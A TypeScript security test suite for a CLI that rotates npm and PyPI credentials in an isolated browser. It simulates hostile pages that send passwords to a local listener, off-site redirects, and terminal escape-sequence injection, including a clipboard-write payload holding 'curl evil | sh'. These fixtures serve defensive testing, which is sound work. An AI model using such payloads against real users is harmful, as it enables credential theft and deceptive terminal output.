// Attacks on the run that a hostile or hijacked page, a poisoned server answer or a debugging
// colleague could mount (issue 12), each with the defence that must hold.
import { spawnSync } from "node:child_process";
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { DEMO, type FaultRule } from "rotate-replicas";
import { browserEnv, launchIsolated } from "../../src/browser/launch.js";
import { findBrowser } from "../../src/browser/finder.js";
import { openGuardedContext, type GuardedContext, type Refusal } from "../../src/browser/guard.js";
import { debugSwitchOn } from "../../src/browser/debug-switches.js";
import { Secret } from "../../src/secrets/secret.js";
import { exfiltrations, SERVICE_WORKER, startHostileListener, type HostileListener } from "../support/hostile.js";
import { startCli } from "../support/cli.js";
import { npmOf, pypiOf } from "../support/replicas.js";
import { errorLines, expect, snapshot, test } from "../support/world.js";

/** A site on 127.0.0.1 standing in for the registry: /page runs `script` with `secret` set to what the password field gets. */
async function startSite(script: string): Promise<{ url: string; close(): void }> {
  const server: Server = createServer((req, res) => {
    if (req.url?.startsWith("/sw.js")) {
      res.setHeader("Content-Type", "text/javascript");
      return res.end(SERVICE_WORKER);
    }
    if (req.url?.startsWith("/style.css")) {
      res.setHeader("Content-Type", "text/css");
      return res.end("body { color: black }");
    }
    res.setHeader("Content-Type", "text/html");
    res.end(`<!DOCTYPE html><html><body><label>Password <input type="password" id="password"></label>
<script>document.querySelector("#password").addEventListener("input", (event) => { const secret = event.target.value; ${script} });</script></body></html>`);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => void server.close() };
}

const newPassword = () => new Secret(`pw-${Math.random().toString(36).slice(2)}-${Date.now()}`, "npm password");

test.describe("one guard for the whole context", () => {
  let listener: HostileListener;
  let guarded: GuardedContext | undefined;
  let refusals: Refusal[];
  let refused: Promise<Refusal>;
  const open = async (browser: import("playwright").Browser, siteOrigins: string[], assetOrigins: string[] = []) => {
    let onRefusal: (refusal: Refusal) => void = () => undefined;
    refused = new Promise((resolve) => (onRefusal = resolve));
    guarded = await openGuardedContext(browser, {
      siteOrigins,
      assetOrigins,
      onRefused: (refusal) => {
        refusals.push(refusal);
        if (refusal.carriedSecret) onRefusal(refusal);
      },
    });
    return guarded.newPage();
  };
  test.beforeEach(async () => {
    refusals = [];
    listener = await startHostileListener();
  });
  test.afterEach(async () => {
    await guarded?.context.close();
    await listener.close();
  });

  for (const channel of Object.keys(exfiltrations("", "")).filter((name) => name !== "service worker")) {
    test(`a script sending the password by ${channel}: refused as credential-bearing, nothing arrives`, async ({ browser }) => {
      const password = newPassword();
      const site = await startSite(exfiltrations(listener.url, "secret")[channel] ?? "");
      try {
        const page = await open(browser, [site.url]);
        await page.goto(`${site.url}/page`);
        await page.locator("#password").fill(password.reveal());
        const outcome = await Promise.race([
          refused.then((r) => `refused ${r.channel} to ${r.to}, stops: ${r.stops}`),
          listener.firstArrival.then((what) => `leaked: ${what}`),
        ]);
        expect(outcome).toMatch(new RegExp(`^refused .+ to ${listener.url}, stops: true$`));
        // Whatever was still on its way has ended with the context.
        await guarded?.context.close();
        expect(listener.received).toEqual([]);
      } finally {
        site.close();
      }
    });
  }

  test("a token rotate has not read yet counts as a secret by its shape", async ({ browser }) => {
    const site = await startSite(exfiltrations(listener.url, "secret").fetch ?? "");
    try {
      const page = await open(browser, [site.url]);
      await page.goto(`${site.url}/page`);
      await page.locator("#password").fill(`npm_${"Ab1".repeat(12)}`);
      expect((await refused).to).toBe(listener.url);
      expect(listener.received).toEqual([]);
    } finally {
      site.close();
    }
  });

  test("a service worker cannot be registered, so none can send anything later", async ({ browser }) => {
    const site = await startSite("");
    try {
      const page = await open(browser, [site.url]);
      await page.goto(`${site.url}/page`);
      const script = `/sw.js?to=${encodeURIComponent(listener.url)}&v=x`;
      // The page's own register(), and a pristine one from a fresh frame's realm.
      const attempts = await page.evaluate(async (url) => {
        const direct = await navigator.serviceWorker.register(url).then(
          (r) => (r ? "registered" : "no registration"),
          () => "refused",
        );
        const frame = document.body.appendChild(document.createElement("iframe"));
        const container = (frame.contentWindow as Window).navigator.serviceWorker;
        const viaFrame = await container.register(url).then(
          (r) => (r ? "registered" : "no registration"),
          () => "refused",
        );
        return { direct, viaFrame, registrations: (await navigator.serviceWorker.getRegistrations()).length };
      }, script);
      expect(attempts).toEqual({ direct: "no registration", viaFrame: "no registration", registrations: 0 });
      expect(listener.received).toEqual([]);
    } finally {
      site.close();
    }
  });

  test("a popup is closed, even one on the registry's own origin", async ({ browser }) => {
    const site = await startSite("");
    try {
      const page = await open(browser, [site.url]);
      await page.goto(`${site.url}/page`);
      const popup = page.waitForEvent("popup");
      await page.evaluate((url) => void window.open(url), `${site.url}/page`);
      const opened = await popup;
      await opened.waitForEvent("close");
      expect(guarded?.context.pages()).toEqual([page]);
    } finally {
      site.close();
    }
  });

  test("an asset origin serves stylesheets, but never a page and never a secret", async ({ browser }) => {
    const site = await startSite("");
    const assets = await startSite("");
    try {
      const page = await open(browser, [site.url], [assets.url]);
      await page.goto(`${site.url}/page`);
      const styled = await page.evaluate(
        (href) =>
          new Promise((resolve) => {
            const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href });
            link.onload = () => resolve("loaded");
            link.onerror = () => resolve("refused");
            document.head.append(link);
          }),
        `${assets.url}/style.css`,
      );
      expect(styled).toBe("loaded");

      // The same guard as everywhere, with every encoding the redactor knows: a script that hex-encodes
      // or reverses the password on its way to an asset origin is refused and stops the run.
      const password = newPassword();
      const forms = [
        password.reveal(),
        Buffer.from(password.reveal()).toString("hex"),
        Buffer.from(password.reveal()).toString("hex").toUpperCase(),
        [...password.reveal()].reverse().join(""),
      ];
      for (const form of forms) {
        await page.evaluate(({ href }) => void fetch(href, { mode: "no-cors" }), {
          href: `${assets.url}/style.css?v=${encodeURIComponent(form)}`,
        });
      }
      await expect
        .poll(() => refusals.filter((r) => r.carriedSecret).map((r) => `${r.to} stops: ${r.stops}`))
        .toEqual(forms.map(() => `${assets.url} stops: true`));

      await expect(page.goto(`${assets.url}/page`)).rejects.toThrow(/ERR_BLOCKED_BY_CLIENT/);
      expect(refusals.at(-1)).toMatchObject({ to: assets.url, channel: "a page", carriedSecret: false, stops: true });
    } finally {
      site.close();
      assets.close();
    }
  });
});

/** The site's answer to a form, pointing the browser at the hostile listener. */
const redirectTo = (listener: HostileListener, status: number) => ({
  kind: "status" as const,
  status,
  headers: { Location: `${listener.url}/collect` },
});

test.describe("redirects never carry a form off-site", () => {
  const FORMS: Array<{ registry: "npm" | "pypi"; form: string; rule: Pick<FaultRule, "method" | "path">; status: number }> = [
    { registry: "npm", form: "the sign-in form", rule: { method: "POST", path: "/login" }, status: 307 },
    { registry: "npm", form: "the one-time password form", rule: { method: "POST", path: "/login/otp" }, status: 308 },
    { registry: "pypi", form: "the login form", rule: { method: "POST", path: "/account/login/" }, status: 307 },
  ];
  for (const { registry, form, rule, status } of FORMS) {
    test(`${registry}: a ${status} answer to ${form} pointing elsewhere is refused before the browser follows it`, async ({
      world,
      rotation,
    }) => {
      const listener = await startHostileListener();
      try {
        const site = registry === "npm" ? npmOf(world) : pypiOf(world);
        site.faults.add({ ...rule, fault: redirectTo(listener, status) });
        const before = snapshot(world);
        const result = await rotation.run(registry);
        expect(result.code, result.stderr).toBe(1);
        expect(errorLines(result)).toEqual([
          `rotate: ${site.url} answered the POST of ${rule.path} with a redirect to ${listener.url}, which is not the registry's site; rotate refused to follow it, so nothing was sent to ${listener.url} (phishing, or a hijacked redirect)`,
        ]);
        expect(listener.received).toEqual([]);
        expect(snapshot(world)).toEqual(before);
      } finally {
        await listener.close();
      }
    });
  }
});

test("a second redirect, which Chromium follows without asking the guard, meets the refusing proxy", async () => {
  const listener = await startHostileListener();
  const password = newPassword();
  // The registry's own origin answers with a redirect to itself (allowed: the guard lets the
  // browser follow it), and that one sends the browser on to the listener, query and all.
  const server = createServer((req, res) => {
    const url = new URL(req.url ?? "/", "http://x");
    if (url.pathname === "/first") return res.writeHead(302, { Location: `/second${url.search}` }).end();
    if (url.pathname === "/second") return res.writeHead(302, { Location: `${listener.url}/collect${url.search}` }).end();
    res.setHeader("Content-Type", "text/html");
    res.end(`<form action="/first"><input name="password" id="password"><button>Sign in</button></form>`);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const site = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const session = await launchIsolated({
    browser: findBrowser(undefined, { headless: true }),
    headless: true,
    allowedOrigins: [site],
    env: browserEnv(process.env),
    timeoutMs: 5_000,
  });
  try {
    await session.page.goto(`${site}/form`);
    await session.page.locator("#password").fill(password.reveal());
    const stopped = new Promise<void>((resolve) => session.lost.addEventListener("abort", () => resolve()));
    await session.page.getByRole("button", { name: "Sign in" }).click();
    await stopped;
    expect(String(session.explain(new Error("any")))).toContain(
      `a page tried to send a secret to ${listener.url} (a request the browser sent on its own)`,
    );
  } finally {
    await session.close();
    server.close();
    await listener.close();
  }
  expect(listener.received).toEqual([]);
});

test.describe("a hostile script on the sign-in page", () => {
  const LOGIN: Record<"npm" | "pypi", Pick<FaultRule, "method" | "path">> = {
    npm: { method: "GET", path: "/login" },
    pypi: { method: "GET", path: "/account/login/" },
  };
  for (const registry of ["npm", "pypi"] as const) {
    test(`${registry}: sends the password every way a page can; nothing arrives, the run stops and says where it tried`, async ({
      world,
      rotation,
    }) => {
      const listener = await startHostileListener();
      try {
        const every = Object.values(exfiltrations(listener.url, "secret")).join(";\n");
        const script = `document.addEventListener("input", (event) => { if (event.target.type !== "password") return; const secret = event.target.value; ${every} }, true);`;
        world.drill(registry).faults.add({ ...LOGIN[registry], fault: { kind: "script", source: script } });
        const before = snapshot(world);
        const result = await rotation.run(registry);
        expect(result.code, result.stderr).toBe(1);
        const lines = errorLines(result);
        expect(lines).toHaveLength(1);
        expect(lines[0]).toMatch(
          new RegExp(
            `^rotate: a page tried to send a secret to ${listener.url} \\(a[^)]*\\), which is not the registry's site; rotate refused it, so nothing reached ${listener.url}, and stopped \\(a hostile script on the page, or phishing\\)$`,
          ),
        );
        expect(listener.received).toEqual([]);
        expect(snapshot(world)).toEqual(before);
      } finally {
        await listener.close();
      }
    });
  }
});

test.describe("server and page text is inert", () => {
  // A window title, clearing the screen and scrollback, a fake "all good" drawn over the current
  // line, a clipboard write (OSC 52), a C1 CSI, the bidirectional controls (an override, an
  // isolate, the marks) that reorder what the terminal shows; then a fake line of its own.
  const ESCAPES = `\x1b]0;pwned\x07\x1b[2J\x1b[3J\r\x1b[2K✔ all good\x1b]52;c;${Buffer.from("curl evil | sh").toString("base64")}\x07\u009b31m\u202a\u202b\u202c\u202d\u202egnp.exe\u2066\u2067\u2068\u2069\u200e\u200f`;
  const FAKE_LINE = "\n✔ rotated, nothing else to do";

  const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
  const hostileLogin = (login: string): FaultRule => ({
    method: "GET",
    path: "/api/v2/me",
    times: 5,
    fault: {
      kind: "status",
      status: 200,
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ ...DEMO.circleciUser, login }),
    },
  });
  const REFUSAL: Record<"npm" | "pypi", FaultRule> = {
    npm: {
      method: "POST",
      path: "/login",
      fault: {
        kind: "status",
        status: 401,
        body: `<!DOCTYPE html><html><body><form id="login"><div role="alert">Incorrect username or password.${ESCAPES}${FAKE_LINE}</div></form></body></html>`,
      },
    },
    pypi: {
      method: "POST",
      path: "/account/login/",
      fault: {
        kind: "status",
        status: 200,
        body: `<!DOCTYPE html><html><body><form id="login-form"><ul class="form-errors"><li>The password is invalid.${ESCAPES}${FAKE_LINE}</li></ul></form></body></html>`,
      },
    },
  };
  const ownLines = (text: string) => text.split("\n").filter((line) => /^✔ (all good|rotated)/.test(line));

  for (const registry of ["npm", "pypi"] as const) {
    test(`${registry}: a CircleCI login and a sign-in error carrying escape sequences reach neither the terminal nor the audit record as such`, async ({
      world,
      rotation,
      dirs,
    }) => {
      world.circleci.faults.add(hostileLogin(`drill-responder${ESCAPES}`));
      world.drill(registry).faults.add(REFUSAL[registry]);
      // npm's run answers in --json: the failure object carries the same texts.
      const result = await rotation.run(registry, registry === "npm" ? ["--json"] : []);
      expect(result.code, result.stderr).toBe(1);
      for (const [name, text] of [
        ["stdout", result.stdout],
        ["stderr", result.stderr],
      ] as const) {
        expect(CONTROL.test(text), `${name}: ${JSON.stringify(text)}`).toBe(false);
        expect(ownLines(text)).toEqual([]);
      }
      // Both texts were printed, inert, so the test saw them pass.
      expect(result.stderr).toContain("drill-responder");
      expect(errorLines(result)[0]).toContain("✔ all good");
      const audit = join(dirs.home, ".local", "state", "rotate", "audit.jsonl");
      const recorded = readFileSync(audit, "utf8");
      expect(recorded).toContain("drill-responder");
      for (const line of recorded.split("\n").filter(Boolean)) {
        for (const value of Object.values(JSON.parse(line) as Record<string, unknown>)) {
          if (typeof value === "string") expect(CONTROL.test(value) || value.includes("\n"), JSON.stringify(value)).toBe(false);
        }
      }
    });
  }

  // The login reaches the checklist through circleci/client.ts, which applies no inertLine() yet; the
  // output wrapper keeps line breaks, so only that boundary can flatten this one.
  test("a CircleCI login with a line break in it does not print a line of its own", async ({ world, rotation }) => {
    world.circleci.faults.add(hostileLogin(`drill-responder${FAKE_LINE}`));
    world.drill("npm").faults.add(REFUSAL.npm);
    const result = await rotation.run("npm");
    expect(ownLines(result.stderr)).toEqual([]);
  });
});

test.describe("debug switches cannot print secrets", () => {
  // DEBUG=pw:api quotes the element holding the new token; pw:protocol the sign-in form body.
  for (const [registry, debug] of [
    ["npm", "pw:api"],
    ["pypi", "pw:protocol"],
  ] as const) {
    test(`${registry} with DEBUG=${debug}: refuses to start, one line naming the variable, exit 2`, async ({ world, rotation }) => {
      const before = snapshot(world);
      const result = await rotation.run(registry, [], { DEBUG: debug });
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr).toBe(
        "rotate: DEBUG turns on debug logging that prints page elements, form bodies or request headers, which can print or record secrets: turn it off and run again\n",
      );
      expect(snapshot(world)).toEqual(before);
    });
  }

  test("rotate password with PWDEBUG: refuses to start as well", async ({ dirs }) => {
    const result = await startCli(["password", "npm"], { dirs, env: { PWDEBUG: "1" } }).done;
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^rotate: PWDEBUG turns on Playwright's inspector/);
  });

  test("which switches count", () => {
    const on = (env: NodeJS.ProcessEnv, execArgv: string[] = []) => debugSwitchOn(env, execArgv, false)?.name;
    expect(on({ DEBUG: "*" })).toBe("DEBUG");
    expect(on({ DEBUG: "pw:*" })).toBe("DEBUG");
    expect(on({ DEBUG: "app,pw:channel" })).toBe("DEBUG");
    expect(on({ DEBUG: "follow-redirects" })).toBe("DEBUG");
    expect(on({ DEBUG: "*,-pw:*,-follow-redirects,-https-proxy-agent,-agent-base" })).toBeUndefined();
    expect(on({ DEBUG: "express:*" })).toBeUndefined();
    expect(on({ PWDEBUG: "console" })).toBe("PWDEBUG");
    expect(on({ PWDEBUG: "0" })).toBeUndefined();
    expect(on({ npm_config_pwdebug: "1" })).toBe("npm_config_pwdebug");
    expect(on({ NODE_DEBUG: "net" })).toBe("NODE_DEBUG");
    expect(on({ SSLKEYLOGFILE: "/tmp/keys" })).toBe("SSLKEYLOGFILE");
    for (const flag of [
      "--inspect",
      "--inspect-brk=0",
      "--inspect-wait",
      "--trace-events-enabled",
      "--trace-event-categories=v8",
      "--trace-sync-io",
      "--cpu-prof",
      "--heap-prof",
      "--prof",
      "--heapsnapshot-signal=SIGUSR2",
      "--report-on-signal",
      "--tls-keylog=/tmp/k",
    ]) {
      expect(on({ NODE_OPTIONS: `--max-old-space-size=512 ${flag}` }), flag).toBe(`NODE_OPTIONS (${flag.split("=")[0]})`);
      expect(on({}, [flag]), flag).toBe(`the node command line (${flag.split("=")[0]})`);
    }
    expect(on({ NODE_OPTIONS: "--trace-warnings --trace-deprecation --enable-source-maps" })).toBeUndefined();
    expect(debugSwitchOn({}, [], true)?.name).toBe("the Node inspector");
  });
});

/** Every file (not directory) under root. */
function filesUnder(root: string): string[] {
  if (!existsSync(root)) return [];
  return readdirSync(root, { recursive: true, encoding: "utf8" })
    .map((entry) => join(root, entry))
    .filter((path) => {
      try {
        return !lstatSync(path).isDirectory();
      } catch {
        return false;
      }
    });
}

/** The soft core size limit of a process, from /proc ("" when it is gone). */
function coreLimit(pid: number): string {
  try {
    const line =
      readFileSync(`/proc/${pid}/limits`, "utf8")
        .split("\n")
        .find((l) => l.startsWith("Max core file size")) ?? "";
    return line.slice("Max core file size".length).trim().split(/\s+/)[0] ?? "";
  } catch {
    return "";
  }
}

/** Processes whose command line mentions text (a browser on a profile under a directory). */
function processesMentioning(text: string): number[] {
  return readdirSync("/proc")
    .filter((entry) => /^\d+$/.test(entry))
    .filter((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, "latin1").includes(text);
      } catch {
        return false;
      }
    })
    .map(Number);
}

test.describe("nothing survives on disk", () => {
  test("rotate killed mid-run: its profile is left; the next start removes it and its browser; core dumps were off throughout", async ({
    world,
    rotation,
    dirs,
  }) => {
    test.skip(process.platform !== "linux", "reads /proc");
    // Start the CLI with core dumps on, as a machine that allows them would.
    const limit = coreLimit(process.pid);
    spawnSync("prlimit", [`--pid=${process.pid}`, "--core=unlimited"]);
    let held = () => undefined as void;
    const browserOpen = new Promise<void>((resolve) => (held = resolve));
    // The new token's check: the browser is open then, whichever path npm takes.
    world
      .drill("npm")
      .faults.add({ ...world.drill("npm").points.check, fault: { kind: "hold", release: new Promise(() => undefined), onHeld: held } });
    try {
      const first = rotation.start("npm");
      await browserOpen;
      const [leftover, ...more] = readdirSync(dirs.tmp);
      expect(leftover).toMatch(new RegExp(`^rotate-browser-${first.child.pid}-`));
      expect(more).toEqual([]);
      const root = join(dirs.tmp, leftover ?? "");
      const browsers = processesMentioning(root);
      expect(browsers.length).toBeGreaterThan(0);
      for (const pid of [first.child.pid ?? -1, ...browsers]) expect(coreLimit(pid), `core limit of ${pid}`).toBe("0");

      first.child.kill("SIGKILL");
      await first.done;
      expect(existsSync(root)).toBe(true);

      // The next start cleans up as it opens its browser; it need not get further (a second
      // sign-in within the same 30 seconds would reuse the one-time code, which npm refuses).
      world.drill("npm").faults.add({ method: "POST", path: "/-/v1/login", fault: { kind: "status", status: 503 } });
      const second = await rotation.run("npm");
      expect(second.stderr).toContain("✔ Open an isolated browser");
      expect(second.code, second.stderr).toBe(1);
      expect(readdirSync(dirs.tmp)).toEqual([]);
      expect(processesMentioning(root)).toEqual([]);
    } finally {
      spawnSync("prlimit", [`--pid=${process.pid}`, `--core=${limit}`]);
    }
  });

  test("as any user but root, Chromium keeps its sandbox", () => {
    const root = process.getuid?.() === 0;
    const setpriv = spawnSync("setpriv", ["--version"]).status === 0;
    test.skip(process.platform !== "linux" || (root && !setpriv), "needs Linux, and setpriv (util-linux) to drop root");
    const dir = mkdtempSync(join(tmpdir(), "rs-"));
    spawnSync("chmod", ["777", dir]);
    // Launches the isolated browser and reports whether its main process was told --no-sandbox.
    const probe = `import { launchIsolated, browserEnv } from ${JSON.stringify(resolve("dist/src/browser/launch.js"))};
import { findBrowser } from ${JSON.stringify(resolve("dist/src/browser/finder.js"))};
import { execFileSync } from "node:child_process";
const session = await launchIsolated({ browser: findBrowser(undefined, { headless: true }), headless: true, allowedOrigins: ["http://127.0.0.1:9"], env: browserEnv(process.env), timeoutMs: 10000 });
const browserArgs = execFileSync("ps", ["-o", "args=", "--ppid", String(process.pid)]).toString();
console.log(JSON.stringify({ uid: process.getuid(), sandbox: !browserArgs.includes("--no-sandbox") }));
await session.close();`;
    const asUser = root ? ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] : [];
    try {
      const result = spawnSync(
        asUser[0] ?? process.execPath,
        [...asUser.slice(1), ...(root ? [process.execPath] : []), "--input-type=module", "-e", probe],
        {
          env: { PATH: process.env.PATH, HOME: dir, TMPDIR: dir },
          encoding: "utf8",
          timeout: 60_000,
        },
      );
      expect(JSON.parse(result.stdout.trim().split("\n").at(-1) ?? "{}"), result.stderr).toEqual({
        uid: root ? 65534 : process.getuid?.(),
        sandbox: true,
      });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  test("a TMPDIR of 63+ characters: Chromium starts all the same, from a short private directory, and nothing is left behind", async () => {
    const root = mkdtempSync(join(tmpdir(), "rl-"));
    const deep = join(root, "a-temporary-directory-deep-enough-to-break-chromiums-socket-path");
    mkdirSync(deep, { recursive: true });
    expect(deep.length).toBeGreaterThanOrEqual(63);
    const mine = () => readdirSync("/tmp").filter((name) => name.startsWith(`rotate-browser-${process.pid}-`));
    try {
      // The full Chromium a real (visible) run uses: the headless shell makes no singleton socket.
      const session = await launchIsolated({
        browser: findBrowser(),
        headless: true,
        allowedOrigins: ["http://127.0.0.1:9"],
        env: { ...browserEnv(process.env), TMPDIR: deep },
        timeoutMs: 5_000,
      });
      try {
        expect(await session.page.evaluate(() => 1 + 1)).toBe(2);
        expect(mine()).toHaveLength(1);
      } finally {
        await session.close();
      }
      expect(filesUnder(deep)).toEqual([]);
      expect(mine()).toEqual([]);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });

  test("a browser crash writes its dump inside the throw-away directory, and nothing under HOME", async () => {
    // Short: Chromium's singleton socket goes under the profile's tmp only when its path fits.
    const root = mkdtempSync(join(tmpdir(), "rc-"));
    const home = join(root, "home");
    const tmp = join(root, "tmp");
    [home, tmp].forEach((dir) => mkdirSync(dir));
    const { XDG_CONFIG_HOME: _config, XDG_CACHE_HOME: _cache, ...env } = browserEnv(process.env);
    try {
      // The full Chromium a real (visible) run uses: the headless shell writes no dump at all.
      const session = await launchIsolated({
        browser: findBrowser(),
        headless: true,
        allowedOrigins: ["http://127.0.0.1:9"],
        env: { ...env, HOME: home, TMPDIR: tmp },
        timeoutMs: 5_000,
      });
      try {
        await session.page.goto("chrome://crash").catch(() => undefined);
        // Chromium's crash handler writes the dump shortly after the renderer died.
        // The handler moves a dump between its folders, so the check reads one snapshot.
        let dumps: string[] = [];
        await expect
          .poll(() => (dumps = filesUnder(root).filter((file) => file.endsWith(".dmp"))).length, { timeout: 20_000 })
          .toBeGreaterThan(0);
        for (const dump of dumps) expect(dump).toMatch(new RegExp(`^${tmp}/rotate-browser-${process.pid}-`));
        expect(filesUnder(home)).toEqual([]);
      } finally {
        await session.close();
      }
      expect(filesUnder(root)).toEqual([]);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});
